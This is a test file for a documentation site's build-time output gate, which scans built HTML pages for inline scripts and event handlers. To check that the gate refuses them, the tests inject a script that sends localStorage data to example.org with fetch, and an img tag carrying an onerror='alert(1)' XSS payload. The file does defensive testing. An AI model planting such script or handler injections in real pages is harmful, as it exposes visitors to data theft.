import { spawnSync } from 'node:child_process';
import { cpSync, mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import type { Element, Root, RootContent } from 'hast';
import { fromHtml } from 'hast-util-from-html';
import { toHtml } from 'hast-util-to-html';
import { afterAll, describe, expect, it } from 'vitest';
import { checkBuiltSite } from '../../src/lib/output-gate.ts';
import { copyRepository, type RepoCopy } from '../helpers/repo-copy.ts';
import { DIST, ROOT } from '../helpers/site.ts';

const PAGE = 'boites-a-outils/disco-soupe/index.html';
const cleanups: (() => void)[] = [];

afterAll(() => {
  for (const cleanup of cleanups.splice(0)) cleanup();
});

/** The first element of `nodes` (depth first) with the given class. */
function withClass(nodes: RootContent[], name: string): Element | undefined {
  for (const node of nodes) {
    if (node.type !== 'element') continue;
    const classes = node.properties['className'];
    if (Array.isArray(classes) && classes.includes(name)) return node;
    const found = withClass(node.children, name);
    if (found) return found;
  }
  return undefined;
}

describe('the output gate on the production build', () => {
  it('finds nothing to refuse in the real build', () => {
    expect(checkBuiltSite(DIST)).toEqual([]);
  });

  it('rejects a copy of a real toolkit page with a script injected into its content', () => {
    const copy = mkdtempSync(join(tmpdir(), 'kpa-gate-'));
    cleanups.push(() => {
      rmSync(copy, { recursive: true, force: true });
    });
    cpSync(DIST, copy, { recursive: true, filter: (path) => !path.startsWith(join(DIST, 'pagefind')) });
    const tree: Root = fromHtml(readFileSync(join(copy, PAGE), 'utf8'));
    const content = withClass(tree.children, 'sl-markdown-content');
    if (!content) throw new Error(`contenu introuvable dans ${PAGE}`);
    content.children.push({
      type: 'element',
      tagName: 'script',
      properties: {},
      children: [{ type: 'text', value: "fetch('https://example.org/?t=' + localStorage.length);" }],
    });
    writeFileSync(join(copy, PAGE), toHtml(tree));
    expect(checkBuiltSite(copy).map((p) => [p.page, p.rule, p.element])).toEqual([[PAGE, 'script-inline', '<script>']]);
  });
});

describe('astro build', () => {
  let repo: RepoCopy | undefined;

  it('fails on a page whose raw HTML gets past the content check, naming page, position and rule', () => {
    repo = copyRepository();
    cleanups.push(repo.remove);
    // A .md file: Astro copies its raw HTML as is. Built directly, without `npm run validate`.
    writeFileSync(
      join(repo.root, 'content/docs/essai-hostile.md'),
      '---\ntitle: Essai hostile\ndescription: Une page qui essaie de lancer du code sur le site.\n---\n\n' +
        'Bonjour <img src="/favicon.svg" alt="" onerror="alert(1)">\n',
    );
    const result = spawnSync(process.execPath, [join(ROOT, 'node_modules/astro/bin/astro.mjs'), 'build'], {
      cwd: repo.root,
      encoding: 'utf8',
      env: { ...process.env, NODE_ENV: 'production', ASTRO_TELEMETRY_DISABLED: '1' },
      timeout: 120_000,
    });
    expect(result.status).not.toBe(0);
    expect(result.stdout + result.stderr).toMatch(
      /Contrôle de sortie : 1 problème dans les pages construites[^\n]*\nessai-hostile\/index\.html:\d+:\d+ {2}event-handler {2}attribut de gestion d’événement onerror {2}<img src="\/favicon\.svg" alt="" onerror="alert\(1\)">/,
    );
  }, 120_000);
});
